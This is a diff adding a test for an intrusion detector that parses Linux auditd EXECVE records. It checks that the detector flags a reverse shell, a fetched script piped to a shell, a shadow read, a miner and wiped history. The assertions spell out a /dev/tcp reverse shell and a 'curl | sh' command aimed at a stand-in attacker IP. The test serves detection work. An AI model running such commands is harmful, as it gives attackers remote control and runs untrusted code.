@@ -53,6 +53,25 @@ describe('processes: what an intruder runs on a Windows host', () => {
   }, 120_000);
 });
 
+describe('processes: what an intruder runs on a Linux host (auditd EXECVE records)', () => {
+  it('finds the reverse shell, the reconnaissance, the script piped to a shell, shadow read, the miner and the wiped history; the server\'s own jobs stay quiet', async () => {
+    const found = await analysePlanted('processes-linux', (dir) => {
+      const { put, files } = logFiles(dir);
+      put('audit.log', X.auditLog());
+      return files;
+    });
+    const procs = found.filter((f) => f.detector === 'processes');
+    expect(procs.map((f) => `${f.severity}:${f.numbers.rule ?? 'recon'}`).sort(), listFindings(procs)).toEqual(['high:fetchexec', 'high:miner', 'high:revshell', 'high:shadow', 'high:wipe', 'medium:recon']);
+    const shell = procs.find((f) => f.numbers.rule === 'revshell')!;
+    expect(shell.explanation).toContain('“bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1”');
+    expect(shell.explanation).toMatch(/auditd EXECVE record/);
+    // the hex-encoded argument is read as the text it encodes
+    expect(procs.find((f) => f.numbers.rule === 'fetchexec')!.explanation).toContain('curl -s http://203.0.113.9/x.sh | sh');
+    const recon = procs.find((f) => f.numbers.rule === undefined)!;
+    expect(recon.numbers.kinds).toBe(7);
+  }, 60_000);
+});
+
 describe('processRules', () => {
   it('names the rule a command line matches, and none for look-alikes', () => {
     const ids = (command: string, image = '', parent = ''): string[] => processRules({ image, command, parent }).map((r) => r.id);
